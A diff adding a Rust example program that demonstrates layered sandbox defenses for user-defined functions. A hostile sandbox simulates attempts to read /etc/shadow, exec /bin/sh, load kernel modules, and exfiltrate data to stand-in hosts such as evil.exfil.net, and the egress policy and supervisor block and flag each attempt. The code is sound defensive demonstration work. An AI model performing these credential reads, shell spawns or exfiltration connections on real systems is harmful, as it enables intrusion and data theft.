@@ -1,0 +1,89 @@
+//! Secure-sandbox demo (§III.C): a hostile UDF vs the layered defenses.
+//!
+//! Provisions two sandboxes — one benign ETL UDF and one hostile "user
+//! code" — and walks the hostile one through every escalation the paper's
+//! design stops: filesystem snooping, privileged syscalls, resource
+//! exhaustion (cgroup), and data exfiltration (egress policy at the network
+//! edge, the defense that holds even if the sandbox itself were
+//! compromised). Finishes with the supervisor's abuse report.
+//!
+//! Run: `cargo run --release --example sandbox_demo`
+
+use std::sync::Arc;
+
+use icepark::config::SandboxConfig;
+use icepark::sandbox::{EgressPolicy, EgressProxy, Sandbox, Supervisor, Syscall};
+
+fn attempt(sb: &Sandbox, what: &str, call: Syscall) {
+    match sb.syscall(call) {
+        Ok(v) => println!("  [sandbox {}] {what}: ALLOWED ({v:?})", sb.id),
+        Err(e) => println!("  [sandbox {}] {what}: BLOCKED — {e}", sb.id),
+    }
+}
+
+fn main() -> icepark::Result<()> {
+    let supervisor = Arc::new(Supervisor::new());
+    // Control-plane-generated egress policy: only the customer's approved
+    // integration endpoint is reachable, through the proxy.
+    let egress = Arc::new(EgressProxy::new(EgressPolicy::new(&["api.partner-bank.com"])));
+
+    let cfg = SandboxConfig {
+        allow_external_network: true, // modern external-access feature ON
+        memory_limit_bytes: 256 << 20,
+        ..SandboxConfig::default()
+    };
+
+    println!("== benign UDF ==");
+    let benign = Sandbox::provision(&cfg, supervisor.clone(), egress.clone());
+    attempt(&benign, "import numpy (read packages)", Syscall::Open {
+        path: "/opt/snowpark/packages/numpy/__init__.py".into(),
+        write: false,
+    });
+    attempt(&benign, "spill to scratch", Syscall::Open {
+        path: "/tmp/scratch/partial.parquet".into(),
+        write: true,
+    });
+    attempt(&benign, "allocate 64 MiB", Syscall::Mmap { bytes: 64 << 20 });
+    attempt(&benign, "call approved API", Syscall::Connect {
+        host: "api.partner-bank.com".into(),
+        port: 443,
+    });
+
+    println!("\n== hostile UDF ==");
+    let hostile = Sandbox::provision(&cfg, supervisor.clone(), egress.clone());
+    attempt(&hostile, "read /etc/shadow", Syscall::Open { path: "/etc/shadow".into(), write: false });
+    attempt(&hostile, "overwrite system python", Syscall::Open {
+        path: "/usr/lib/python3/os.py".into(),
+        write: true,
+    });
+    attempt(&hostile, "exec /bin/sh", Syscall::Exec { path: "/bin/sh".into() });
+    attempt(&hostile, "raw socket (packet craft)", Syscall::RawSocket);
+    attempt(&hostile, "load kernel module", Syscall::ModuleLoad);
+    attempt(&hostile, "ptrace the worker", Syscall::Ptrace);
+    attempt(&hostile, "allocate 1 GiB (cgroup)", Syscall::Mmap { bytes: 1 << 30 });
+    attempt(&hostile, "exfiltrate to evil.exfil.net", Syscall::Connect {
+        host: "evil.exfil.net".into(),
+        port: 443,
+    });
+    // Even a plausible-looking destination is blocked unless allowlisted.
+    attempt(&hostile, "exfiltrate to api.partner-bank.com.evil.net", Syscall::Connect {
+        host: "api.partner-bank.com.evil.net".into(),
+        port: 443,
+    });
+
+    println!("\n== supervisor report ==");
+    for (id, n) in supervisor.denials_per_sandbox() {
+        println!("  sandbox {id}: {n} denied syscalls");
+    }
+    let flagged = supervisor.flag_suspicious(3);
+    println!("  flagged as suspicious (>3 denials): {flagged:?}");
+    println!(
+        "  egress proxy: {} proxied, {} blocked",
+        egress.proxied.load(std::sync::atomic::Ordering::Relaxed),
+        egress.blocked.load(std::sync::atomic::Ordering::Relaxed)
+    );
+
+    assert!(flagged.contains(&hostile.id) && !flagged.contains(&benign.id));
+    println!("\nsandbox_demo OK");
+    Ok(())
+}
